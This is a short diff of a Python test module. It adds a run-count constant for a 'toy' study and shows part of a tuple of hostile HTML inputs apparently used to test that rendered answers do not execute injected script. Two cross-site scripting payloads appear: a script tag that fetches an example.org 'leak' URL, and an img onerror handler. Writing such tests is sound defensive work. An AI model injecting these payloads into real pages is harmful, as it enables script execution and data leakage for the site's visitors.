@@ -13,6 +13,8 @@ from pipeline.params.load import load_params
 from pipeline.params.schema import Params
 from tests.support.checkout import REPOSITORY
 
+# The toy study's.
+RUNS = len(load_params(REPOSITORY / "params.yaml").runs_of("toy"))
 HOSTILE = (
     "<script>window.ranFromAnswer = true; fetch('https://example.org/leak')</script>",
     '<img src=https://example.org/pixel onerror="window.ranFromAnswer = true">',
